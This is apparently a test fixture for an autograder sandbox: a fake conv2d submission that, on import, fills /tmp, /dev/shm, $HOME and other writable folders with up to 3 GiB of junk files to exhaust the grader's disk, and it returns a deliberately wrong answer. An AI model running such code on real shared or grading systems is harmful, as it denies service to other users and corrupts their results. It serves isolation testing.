"""Fills every place it can write (the working folder, /tmp, /dev/shm, $HOME and the folder
of the kernel's connection file) with 1 MiB files until the disk says no, at most 3 GiB
in all, and leaves them there; conv2d is wrong. Against an unbounded scratch folder this
filled the grader's disk and every later student of the batch scored 0; here each place
is a bounded tmpfs (or not writable) and the honest students graded after it are unaffected."""
import os
import sys


def _fill(folder, budget):
    written = 0
    try:
        os.makedirs(folder, exist_ok=True)
        for i in range(100000):
            if written >= budget:
                break
            with open(os.path.join(folder, f"gk_iso_fill_{i}"), "wb") as f:
                f.write(b"\xab" * 2**20)
            written += 2**20
    except OSError as exc:
        print(f"{folder}: stopped after {written >> 20} MiB ({exc.strerror})")
    return written


_budget = 3 * 2**30
_places = [".", "/tmp", "/dev/shm", os.path.expanduser("~"), "gk_iso_sub/deeper"]
if "-f" in sys.argv:
    _places.append(os.path.dirname(os.path.abspath(sys.argv[sys.argv.index("-f") + 1])))
for _place in _places:
    _budget -= _fill(_place, _budget)


def conv_output_size(size, kernel_size, stride=1, padding=0, dilation=1):
    raise NotImplementedError()


def conv2d(x, weight, bias=None, stride=1, padding=0, dilation=1, groups=1):
    return x
